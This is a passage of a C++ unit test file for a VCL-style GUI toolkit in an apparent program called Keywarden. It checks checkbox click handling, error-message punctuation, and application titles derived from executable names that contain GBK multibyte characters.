  EXPECT_FALSE(form.Edit1->InheritsFrom("TCheckBox"));
  EXPECT_TRUE(form.InheritsFrom("TForm"));
  EXPECT_STREQ(form.ClassName(), "TForm2");
  EXPECT_EQ(form.Image3->Cursor, vcl::TCursor::HandPoint);
}

TEST(Toolkit, ACheckBoxSetToANewStateRunsItsClickHandler) {
  vcl::TCheckBox box(nullptr, "CheckBox1", nullptr);
  int clicks = 0;
  box.OnClick = [&] { ++clicks; };
  box.SetChecked(true);
  box.SetChecked(true);
  EXPECT_EQ(clicks, 1);
  box.Click();
  EXPECT_FALSE(box.Checked());
  EXPECT_EQ(clicks, 2);
}

TEST(Toolkit, ErrorBoxTextAndApplicationTitle) {
  EXPECT_EQ(vcl::ErrorBoxText("Unable to write"), "Unable to write.");
  EXPECT_EQ(vcl::ErrorBoxText("Done."), "Done.");
  EXPECT_EQ(vcl::ErrorBoxText("Stop!"), "Stop!");
  EXPECT_EQ(vcl::ErrorBoxText(texts::kCannotOpenKey), std::string(texts::kCannotOpenKey) + ".");
  fake::FakeCodePage gbk;
  const std::pair<const char*, const char*> titles[] = {
      {"KEYWARDEN.EXE", "Keywarden"},
      {"key.warden.exe", "key"},
      {"\xB1\x4F\x9C\x5C.exe", "\xB1\x4F\x9C\x5C"},  // 監淺: no byte lowered, none cut
      {"\xB1\x4FKEY.EXE", "\xB1\x4Fkey"},            // 監 is the first character
      {"AB\xB1\x4F", "Ab\xB1\x4F"},
  };
  for (const auto& [file, title] : titles) EXPECT_EQ(vcl::ApplicationTitle(file, gbk), title);
  TFakeServices fakes;  // the title from the program's full path
  EXPECT_EQ(fakes.App.Title(), "Keywarden");
}

}  // namespace
}  // namespace kw::test
